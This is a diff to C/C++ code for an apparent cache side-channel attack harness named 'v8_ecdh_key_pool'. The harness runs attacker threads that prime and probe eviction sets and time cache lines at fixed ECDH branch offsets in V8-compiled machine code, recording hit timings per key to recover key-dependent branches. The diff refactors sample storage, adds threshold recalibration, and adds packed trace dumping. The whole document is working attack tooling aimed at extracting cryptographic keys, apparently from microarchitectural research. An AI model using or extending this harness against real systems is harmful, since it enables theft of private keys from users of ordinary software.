@@ -16,18 +16,22 @@ extern "C" {
 #include "fs.h"
 #include "flush_reload.h"
 #include "prime_probe.h"
+#include "sample_alloc.h"
+#include "thresh_track.h"
+#include "trace.h"
 }
 
 static const char *test_name = "v8_ecdh_key_pool";
 static char dump_dir[256];
+static trace_segment_t trace_segment;
 uintptr_t jit_machine_code;
 uint64_t ecdh_false_branch_offset = 0x1a6a, ecdh_true_branch_offset = 0x1b7a;
 static const int max_exec_cycles = (int)1e8;
 enum { cache_line_count = 3, profile_iterations = 1 << 16 };
-static uint64_t probe_time_arr[cache_line_count][profile_iterations];
-static uint64_t sample_tsc_arr[cache_line_count][profile_iterations];
+static sample_alloc_t sample_alloc;
 static uint64_t *sample_tsc[cache_line_count];
 static uint64_t *probe_time[cache_line_count];
+static uint64_t sample_count[cache_line_count];
 static uint64_t *reload_time[cache_line_count];
 enum AttackPrimitive {
 	FLUSH_RELOAD,
@@ -67,12 +71,36 @@ void *v8_attacker_thread(void *param) {
 
 	log_info("attacker thread %d target address %p", slot, target_addr[slot]);
 
-	uint8_t *scope = evset->addrs[0];
 	evchain *sf_chain = evchain_build(evset->addrs, SF_ASSOC);
 	i64 threshold = detected_cache_lats.l2_thresh;
+	int calibrated = threshold;
+	u32 index = 0;
+
+	prime_scope_t ps = {};
+	ps.evset = evset;
+	ps.sf_chain = sf_chain;
+	ps.array_repeat = array_repeat;
+	ps.l2_repeat = l2_repeat;
+	ps.slot = slot;
+	ps.threshold = threshold;
+	ps.max_exec_cycles = max_exec_cycles;
+	ps.max_samples = profile_iterations;
+	ps.sample_tsc = sample_tsc[slot];
+	ps.probe_time = probe_time[slot];
+	ps.live = live_trace_get();
+
+	thresh_track_t thresh;
+	if (thresh_track_enabled()) {
+		thresh_track_init(&thresh, slot, threshold);
+		ps.thresh = &thresh;
+	}
 
-	u64 tsc0, tsc1, end, scope_lat;
-	u32 aux, index = 0;
+	capture_profiling_thread(slot,
+	                         TRACE_ATTACK_PS,
+	                         -1,
+	                         threshold,
+	                         profile_iterations,
+	                         max_exec_cycles);
 
 	pthread_barrier_wait(sync_ctx.barrier);
 	log_info("attacker thread start");
@@ -83,46 +111,52 @@ void *v8_attacker_thread(void *param) {
 			    evset, sf_chain, array_repeat, l2_repeat);
 
 			if (slot == 0) {
-				memset(probe_time_arr, 0, sizeof(probe_time_arr));
-				memset(sample_tsc_arr, 0, sizeof(sample_tsc_arr));
+				trace_capture_t *capture = trace_get_capture();
+				capture->victim_action = SYNC_CTX_START;
+				snprintf(capture->victim_data,
+				         sizeof(capture->victim_data),
+				         "key %d",
+				         i);
+				sample_alloc_clear(&sample_alloc);
 				pthread_barrier_wait(sync_ctx.barrier);
 			}
 			pthread_barrier_wait(&attacker_local_barrier);
 
-			tsc0 = tsc1 = rdtscp();
-			index = 0;
-			do {
-				tsc1 = rdtscp();
-
-				scope_lat = _time_maccess_aux(scope, end, aux);
-				int scope_evict = scope_lat > threshold &&
-				                  scope_lat <
-				                      detected_cache_lats.interrupt_thresh;
-				if (scope_lat > threshold) {
-					if (scope_lat < detected_cache_lats.interrupt_thresh) {
-						probe_time[slot][index] = scope_lat;
-						sample_tsc[slot][index] = tsc1;
-						index++;
-					}
-					prime_skx_sf_evset_ps_flush(
-					    evset, sf_chain, array_repeat, l2_repeat);
-				}
-			} while (tsc1 - tsc0 < max_exec_cycles &&
-			         index < profile_iterations);
+			index = prime_scope_profile(&ps,
+			                            PRIME_SCOPE_RECORD_SAMPLES,
+			                            PRIME_SCOPE_STOP_BUDGET,
+			                            PRIME_SCOPE_NOISE_IGNORE);
 
 			log_info("Key %d slot %d find %d hits", i, slot, index);
+			sample_count[slot] = index;
+
+			// Every slot has to publish its count before slot 0 dumps
+			pthread_barrier_wait(&attacker_local_barrier);
 			if (slot == 0) {
 				snprintf(
 				    dump_dir, sizeof(dump_dir), "%s_key%05d", test_name, i);
+				dump_profiling_segment(&trace_segment, i);
 				dump_profiling_traces(dump_dir,
 				                      victim_runs,
 				                      sample_tsc,
 				                      probe_time,
+				                      sample_count,
 				                      cache_line_count,
 				                      profile_iterations,
 				                      j == 0);
 			}
 			pthread_barrier_wait(&attacker_local_barrier);
+
+			// The dump above still carries the threshold of this run
+			ps.threshold = profiling_thresh_update(ps.thresh,
+			                                       &evsets[slot],
+			                                       &sf_chain,
+			                                       target_addr[slot],
+			                                       &hctrl,
+			                                       &calibrated,
+			                                       0);
+			evset = ps.evset = evsets[slot];
+			ps.sf_chain = sf_chain;
 		}
 	}
 	stop_helper_thread(&hctrl);
@@ -272,9 +306,30 @@ int v8_run(int argc, char *argv[]) {
 				stop_helper_thread(&hctrl);
 				// assert(*(uint64_t*)jit_machine_code == 0x48fffffff91d8d48);
 
-				for (int i = 0; i < cache_line_count; ++i) {
-					sample_tsc[i] = sample_tsc_arr[i];
-					probe_time[i] = probe_time_arr[i];
+				if (sample_alloc_init(&sample_alloc,
+				                      2 * cache_line_count *
+				                          profile_iterations * sizeof(uint64_t),
+				                      -1)) {
+					return 1;
+				}
+				sample_alloc_columns(&sample_alloc,
+				                     sample_tsc,
+				                     cache_line_count,
+				                     profile_iterations);
+				sample_alloc_columns(&sample_alloc,
+				                     probe_time,
+				                     cache_line_count,
+				                     profile_iterations);
+
+				char segment_path[256];
+				create_directory("output");
+				snprintf(segment_path,
+				         sizeof(segment_path),
+				         "output/%s_r%05d.seg",
+				         test_name,
+				         victim_runs);
+				if (trace_segment_open(&trace_segment, segment_path)) {
+					return 1;
 				}
 
 				pthread_t thread_attacker = 0;
@@ -352,6 +407,9 @@ int v8_run(int argc, char *argv[]) {
 					sleep(1);
 				}
 				pthread_join(thread_attacker, NULL);
+				dump_profiling_segment(NULL, 0);
+				trace_segment_close(&trace_segment);
+				sample_alloc_destroy(&sample_alloc);
 			}
 		}
 	}
@@ -374,6 +432,7 @@ int main(int argc, char *argv[]) {
 		log_error("keypair template not provided");
 		return 1;
 	} else {
+		trace_set_default_format(TRACE_FORMAT_PACKED);
 		return v8_run(argc, argv);
 	}
 	return 0;